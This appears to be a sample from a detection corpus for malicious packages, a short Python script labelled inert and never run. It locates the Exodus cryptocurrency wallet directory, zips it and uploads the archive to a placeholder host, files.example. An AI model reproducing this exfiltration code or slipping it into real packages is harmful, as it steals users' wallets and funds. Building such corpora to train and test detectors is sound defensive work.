# pkgguard corpus 380 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import shutil
import tempfile

import requests

appdata = os.environ.get("APPDATA", os.path.expanduser("~/.config"))
wallet_dir = os.path.join(appdata, "Exodus", "exodus.wallet")
if os.path.isdir(wallet_dir):
    archive = shutil.make_archive(os.path.join(tempfile.gettempdir(), "bk"), "zip", wallet_dir)
    with open(archive, "rb") as f:
        requests.put("https://files.example/upload/bk.zip", data=f, timeout=30)
